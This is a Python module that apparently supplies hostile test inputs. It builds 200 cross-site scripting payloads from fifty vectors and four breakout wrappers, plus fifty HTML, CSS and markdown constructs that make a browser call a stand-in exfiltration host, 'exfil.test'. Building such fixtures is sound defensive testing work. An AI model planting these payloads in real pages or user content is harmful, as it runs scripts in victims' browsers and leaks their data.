"""What someone hostile would put into a question, a document, its name or its title: to run a script, or to reach another host. Pure.

Each script calls hurt(); each address is on `HOST`.
"""

from base64 import b64encode

HOST = "exfil.test"

_VECTORS = (
    "<script>hurt()</script>",
    "<script src=data:text/javascript,hurt()></script>",
    "<script type=module>hurt()</script>",
    "<script\n>hurt()</script\n>",
    "<scr<script>ipt>hurt()</scr</script>ipt>",
    "<ScRiPt>hurt()</sCrIpT>",
    "<img src=x onerror=hurt()>",
    '<img src="x" onerror="hurt()" alt="',
    "<img/src=x/onerror=hurt()//>",
    "<svg onload=hurt()>",
    "<svg><script>hurt()</script></svg>",
    "<svg><animate onbegin=hurt() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hurt()><text y=20>press</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hurt()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hurt()></style></mglyph></table></mtext></math>",
    "<math href=javascript:hurt()>press</math>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<iframe src=javascript:parent.hurt()></iframe>",
    "<object data=javascript:hurt()></object>",
    "<embed src=javascript:hurt()>",
    "<body onload=hurt()>",
    "<details open ontoggle=hurt()>more</details>",
    "<input autofocus onfocus=hurt()>",
    "<select autofocus onfocus=hurt()><option>one</select>",
    "<textarea autofocus onfocus=hurt()></textarea>",
    "<video><source onerror=hurt()></video>",
    "<audio src=x onerror=hurt()></audio>",
    "<marquee onstart=hurt()>read</marquee>",
    "<form action=javascript:hurt()><button autofocus>send</button></form>",
    "<button formaction=javascript:hurt() form=f>send</button>",
    "<a href=javascript:hurt()>read</a>",
    "<a href='java&#x0A;script:hurt()'>read</a>",
    "<a href='&#106;avascript:hurt()'>read</a>",
    "[read](javascript:hurt())",
    "[read](JaVaScRiPt:hurt())",
    "[read](data:text/html;base64," + b64encode(b"<script>opener.hurt()</script>").decode() + ")",
    '![read](x "onerror=hurt()")',
    "![read](x){onerror=hurt()}",
    "<javascript:hurt()>",
    "[read]: javascript:hurt()\n\n[read]",
    "<style>@keyframes k{}*{animation:k}</style><p onanimationstart=hurt()>",
    "<p style='animation:spin 1s' onanimationstart=hurt()>read",
    "<meta http-equiv=refresh content='0;url=javascript:hurt()'>",
    "<base href=javascript:/a/-hurt()///////>",
    "<link rel=import href='data:text/html,<script>hurt()</script>'>",
    "<template><script>hurt()</script></template><noscript><p title='</noscript><img src=x onerror=hurt()>'>",
    "${hurt()} {{hurt()}} {{constructor.constructor('hurt()')()}} <%= hurt() %>",
    "$$\\href{javascript:hurt()}{read}$$ $\\url{javascript:hurt()}$",
    "```html\n<img src=x onerror=hurt()>\n```\n<img src=x onerror=hurt()>",
    "<dialog open onclose=hurt()><form method=dialog><button autofocus>x</button></form></dialog>",
)
_WAYS = ("{}", '"><{}', "</h2></article></div>{}", "supervision in Sandwell' title='\"-->]]></style></title>{}")


def scripts() -> list[str]:
    """200 ways to have a script run: 50, each by itself, out of an attribute, out of an element, and out of what is not read."""
    return [way.format("{}").replace("{}", vector, 1) for way in _WAYS for vector in _VECTORS]


_CALLS = (
    "![]({})", "![pixel]({} 'x')", "![a][b]\n\n[b]: {}", "[read]({})", "<{}>", "{}",
    "<img src={}>", "<img srcset='{} 2x'>", "<img src=x style='background:url({})'>", "<picture><source srcset={}><img></picture>",
    "<svg><image href={} /></svg>", "<svg><image xlink:href={} /></svg>", "<svg><use href='{}#a'/></svg>", "<svg><feImage href={} /></svg>",
    "<svg><style>@import url({});</style></svg>", "<iframe src={}></iframe>", "<iframe srcdoc=\"<img src='{}'>\"></iframe>",
    "<frameset><frame src={}></frameset>", "<object data={}></object>", "<embed src={}>", "<video src={} autoplay></video>",
    "<video poster={}></video>", "<audio src={} autoplay></audio>", "<video><track src={} default></video>", "<source src={}>",
    "<link rel=stylesheet href={}>", "<link rel=preload as=image href={}>", "<link rel=prefetch href={}>", "<link rel=preconnect href={}>",
    "<link rel=dns-prefetch href={}>", "<link rel=icon href={}>", "<link rel=manifest href={}>", "<link rel=modulepreload href={}>",
    "<style>@import '{}';</style>", "<style>*{{background:url({})}}</style>", "<style>@font-face{{font-family:f;src:url({})}}*{{font-family:f}}</style>",
    "<p style='background-image:url({})'>read", "<p style='list-style:url({});display:list-item'>read", "<p style='cursor:url({}),auto'>read",
    "<p style='border-image-source:url({})'>read", "<p style=\"content:url({})\">read", "<table background={}><tr><td background={}></table>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href={}><img src=x.png>", "<form action={}><input autofocus onfocus=form.submit()></form>",
    "<script src={}></script>", "<script>fetch('{}')</script>", "<img src=x onerror=\"navigator.sendBeacon('{}')\">",
    "<body background={}>", "$$\\includegraphics{{{}}}$$",
)  # fmt: skip


def calls() -> list[str]:
    """50 ways to have a browser ask another host, each for an address of its own."""
    return [call.format(*[f"http://n{number}.{HOST}/seen.png"] * 3) for number, call in enumerate(_CALLS)]
